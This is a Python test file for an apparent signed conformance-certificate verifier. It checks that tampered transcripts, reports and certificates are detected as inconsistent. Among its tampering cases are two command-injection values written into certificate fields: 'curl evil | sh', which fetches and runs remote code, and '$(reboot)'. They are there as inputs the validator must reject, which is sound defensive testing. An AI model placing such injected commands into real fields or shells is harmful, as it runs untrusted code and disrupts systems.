"""A signer who lies: what its key signs is checked against the transcript, the report, and the suite."""

import base64
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from certified_folder import certified, members_of, signed_anew, transcript_with
from fencepost.conformance.certificate.bundle import ENVELOPE, SIGNED, Bundle
from fencepost.conformance.certificate.certificate import as_page
from fencepost.conformance.certificate.envelope import PAYLOAD_TYPE, pre_authentication, seal, statement
from fencepost.conformance.certificate.form import form_faults
from fencepost.conformance.certificate.keys import read_public_key, read_signing_key
from fencepost.conformance.certificate.verification import consistency, signature, written
from fencepost.reports.model import report_from_json

pytestmark = pytest.mark.xdist_group("certificate")


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return certified(tmp_path_factory)


def _one_answer_flipped(lines: list[dict[str, object]]) -> None:
    asks = [line for line in lines if line.get("m") == "decide" and len(set(str(line["o"]))) > 1]
    found = str(asks[3]["o"])
    asks[3]["o"] = found[:-1] + ("b" if found[-1] == "a" else "a")


def _one_refusal_made_up(lines: list[dict[str, object]]) -> None:
    puts = [line for line in lines if line.get("m") == "putRules"]
    puts[5]["a"] = {"accepted": False}


def _one_rule_changed(lines: list[dict[str, object]]) -> None:
    puts = [line for line in lines if line.get("m") == "putRules"]
    puts[5]["p"]["networkAcls"]["defaultAction"] = "Maybe"  # type: ignore[index]


def _one_rule_infinite(lines: list[dict[str, object]]) -> None:
    next(line for line in lines if line.get("m") == "putRules")["p"] = float("inf")


def _one_call_left_out(lines: list[dict[str, object]]) -> None:
    del lines[10]


def _one_call_repeated(lines: list[dict[str, object]]) -> None:
    lines.insert(10, lines[10])


def _the_end_left_out(lines: list[dict[str, object]]) -> None:
    del lines[-1]


def _more_after_the_end(lines: list[dict[str, object]]) -> None:
    lines.append(lines[3])


def _a_miscounted_end(lines: list[dict[str, object]]) -> None:
    lines[-1]["calls"] = 7


def _another_version(lines: list[dict[str, object]]) -> None:
    lines[0]["version"] = 2


def _a_letter_without_meaning(lines: list[dict[str, object]]) -> None:
    next(line for line in lines if line.get("m") == "decide")["o"] = "z"


@pytest.mark.parametrize(
    "change",
    [
        _one_answer_flipped,
        _one_refusal_made_up,
        _one_rule_changed,
        _one_rule_infinite,
        _one_call_left_out,
        _one_call_repeated,
        _the_end_left_out,
        _more_after_the_end,
        _a_miscounted_end,
        _another_version,
        _a_letter_without_meaning,
    ],
)
def test_a_signed_transcript_that_does_not_lead_to_the_report_is_inconsistent(
    folder: Path, change: Callable[[list[dict[str, object]]], None]
) -> None:
    bundle = signed_anew(transcript_with(members_of(folder), change), folder)
    assert signature(bundle, read_public_key(folder / "key.pub")).holds
    assert not consistency(bundle).holds


def test_a_signed_report_with_one_count_raised_is_inconsistent_and_the_clause_is_named(folder: Path) -> None:
    members = members_of(folder)
    document = json.loads(members["report.json"])
    row = next(row for row in document["clauses"] if row["id"] == "DEC-3")
    row["decisive"] += 1
    text = json.dumps(document, indent=2).encode()
    found = consistency(signed_anew({**members, "report.json": text}, folder))
    assert any("DEC-3: decisive" in reason for reason in found.against)


def test_a_signed_certificate_that_claims_another_level_is_inconsistent(folder: Path) -> None:
    members = members_of(folder)
    document = json.loads(members["certificate.json"])
    document["level"] = "core+extended"
    report = report_from_json(members["report.json"])
    signed = {name: members[name] for name in SIGNED} | {"certificate.json": written(document)}
    envelope = seal(statement(signed, report, document), read_signing_key(folder / "key"))
    bundle = Bundle(members={**signed, ENVELOPE: envelope})
    assert signature(bundle, read_public_key(folder / "key.pub")).holds
    assert any("level" in reason for reason in consistency(bundle).against)


def _lying(folder: Path, change: Callable[[dict[str, object]], None]) -> tuple[str, ...]:
    """What is against a certificate that its signer has altered; all other members say the same."""
    members = members_of(folder)
    document = json.loads(members["certificate.json"])
    change(document)
    report = report_from_json(members["report.json"])
    new = {name: members[name] for name in SIGNED} | {"certificate.json": written(document)}
    new["certificate.md"] = as_page(document, report).encode()
    envelope = seal(statement(new, report, document), read_signing_key(folder / "key"))
    return consistency(Bundle(members={**new, ENVELOPE: envelope})).against


def _set(part: str, name: str, value: object) -> Callable[[dict[str, object]], None]:
    def change(given: dict[str, object]) -> None:
        inner = given[part] if part else given
        assert isinstance(inner, dict)
        inner[name] = value

    return change


@pytest.mark.slow
@pytest.mark.parametrize(
    ("change", "reason"),
    [
        (_set("suite", "version", "99.0; curl evil | sh"), "is no version"),
        (_set("suite", "sha256", "0" * 64), "is installed here, and its digest is another"),
        (_set("catalogue", "sha256", "0" * 64), "is installed here, and its digest is another"),
        (_set("suite", "sha256", "zero"), "is no SHA-256 in hexadecimal digits"),
        (_set("suite", "origin", "commit:$(reboot)"), "is neither a commit nor a digest"),
        (_set("", "issued", "yesterday-ish"), "is no date and time in UTC that has passed"),
        (_set("", "issued", "2999-01-01T00:00:00+00:00"), "is no date and time in UTC that has passed"),
        (_set("asked", "seed", 7), "asked"),
        (_set("asked", "seedFrom", "luck"), "chooses no seed"),
        (_set("asked", "nonce", "another"), "the digest gives"),
        (_set("implementation", "artifacts", {"vault.tar": "0" * 64}), "the digest gives"),
    ],
)
def test_what_a_lying_signer_writes_is_checked_by_form_and_against_the_suite(
    folder: Path, change: Callable[[dict[str, object]], None], reason: str
) -> None:
    assert any(reason in one for one in _lying(folder, change))


@pytest.mark.parametrize(
    ("change", "reason"),
    [
        (_set("suite", "version", "1.0.0"), "'1.0.0' with the digest of"),
        (_set("catalogue", "version", "99.0"), "'99.0' with the digest of"),
        (_set("implementation", "artifacts", {"image": "not hex at all"}), "'not hex at all' is no SHA-256"),
        (_set("implementation", "artifacts", {"image": 5}), "5 is no SHA-256"),
        (_set("implementation", "artifacts", {"report.json": "0" * 64}), "names no artifact"),
        (_set("implementation", "artifacts", {"": "0" * 64}), "names no artifact"),
        (_set("implementation", "artifacts", []), "are no object"),
        (_set("asked", "seedFrom", "signer"), ""),
        (_set("", "issued", "0001-01-01T00:00:00+00:00"), "is no date and time"),
        (_set("", "issued", "1999-01-01T00:00:00+00:00"), "is no date and time"),
        (_set("", "issued", "2026-W48-1T00:00:00+00:00"), "is no date and time"),
        (_set("", "issued", "20261124T000000,5Z"), "is no date and time"),
    ],
)
def test_a_certificate_is_checked_by_form(folder: Path, change: Callable[[dict[str, Any]], None], reason: str) -> None:
    document = json.loads(members_of(folder)["certificate.json"])
    assert not list(form_faults(document))
    change(document)
    assert [reason in one for one in form_faults(document)] == ([True] if reason else [])
    document["asked"] = {"seedFrom": "signer", "nonce": "a customer's"}
    assert any("a seed that was not drawn with it" in one for one in form_faults(document))


def test_the_origin_of_the_suite_is_listed_as_not_checked(folder: Path) -> None:
    members = members_of(folder)
    document = json.loads(members["certificate.json"])
    document["suite"]["origin"] = f"sha256:{'e' * 64}"
    found = consistency(Bundle(members={**members, "certificate.json": written(document), "transcript.ndjson.gz": b""}))
    assert any("eee', from which *Reproduce* installs" in one for one in found.unchecked)


def test_clauses_in_another_order_are_no_report_of_the_run(folder: Path) -> None:
    members = members_of(folder)
    document = json.loads(members["report.json"])
    document["clauses"].reverse()
    text = json.dumps(document, indent=2).encode()
    found = consistency(signed_anew({**members, "report.json": text}, folder))
    assert any("in another order" in reason for reason in found.against)


@pytest.mark.parametrize(
    "payload",
    [b"not JSON", b"", b"\xff\xfe", b"[" * 200_000, b'{"a": ' + b"1" * 5_000 + b"}", b'{"_type": "other"}', b"[]"],
    ids=["no JSON", "empty", "no UTF-8", "deep", "a long integer", "another type", "a list"],
)
def test_a_signed_payload_that_is_no_statement_is_no_valid_signature(folder: Path, payload: bytes) -> None:
    key = read_signing_key(folder / "key")
    signed = base64.b64encode(key.sign(pre_authentication(PAYLOAD_TYPE, payload))).decode()
    content = {"payloadType": PAYLOAD_TYPE, "payload": base64.b64encode(payload).decode()}
    envelope = json.dumps({**content, "signatures": [{"keyid": key.public.id, "sig": signed}]}, indent=2) + "\n"
    bundle = Bundle(members={**members_of(folder), ENVELOPE: envelope.encode()})
    assert not signature(bundle, read_public_key(folder / "key.pub")).holds


def _renames_a_clause(given: dict[str, Any]) -> None:
    given["clauses"][0]["id"] = "DEC-99"


def _turns_a_verdict(given: dict[str, Any]) -> None:
    row = next(row for row in given["clauses"] if row["verdict"] == "not applicable")
    row.update(verdict="pass", asked=40, decisive=40, required=20, needs=[])


def _raises_totals(given: dict[str, Any]) -> None:
    given["totals"]["decisions"] *= 10


def _claims_more_effort(given: dict[str, Any]) -> None:
    given["effort"] = "thorough"


def _claims_another_seed(given: dict[str, Any]) -> None:
    given["seed"] += 1


def _claims_features(given: dict[str, Any]) -> None:
    given["subject"]["features"] = [*given["subject"]["features"], "snapshot-isolation"]


def _claims_a_choice(given: dict[str, Any]) -> None:
    given["subject"]["choices"]["host-bits"] = "mask"


def _claims_another_version(given: dict[str, Any]) -> None:
    given["subject"]["version"] = "9.9.9"


def _adds_a_note(given: dict[str, Any]) -> None:
    given["notes"] = [*given["notes"], "audited"]


@pytest.mark.slow
@pytest.mark.parametrize(
    ("lie", "reason"),
    [
        (_renames_a_clause, "DEC-99"),
        (_turns_a_verdict, "verdict"),
        (_raises_totals, "totals"),
        (_claims_more_effort, "thorough"),
        (_claims_another_seed, "seed"),
        (_claims_features, "snapshot-isolation"),
        (_claims_a_choice, "host-bits"),
        (_claims_another_version, "9.9.9"),
        (_adds_a_note, "audited"),
    ],
)
def test_a_signed_report_that_claims_what_its_transcript_does_not_show_is_inconsistent(
    folder: Path, lie: Callable[[dict[str, Any]], None], reason: str
) -> None:
    members = members_of(folder)
    document = json.loads(members["report.json"])
    lie(document)
    text = json.dumps(document, indent=2).encode()
    bundle = signed_anew({**members, "report.json": text}, folder)
    assert signature(bundle, read_public_key(folder / "key.pub")).holds
    assert any(reason in one for one in consistency(bundle).against)
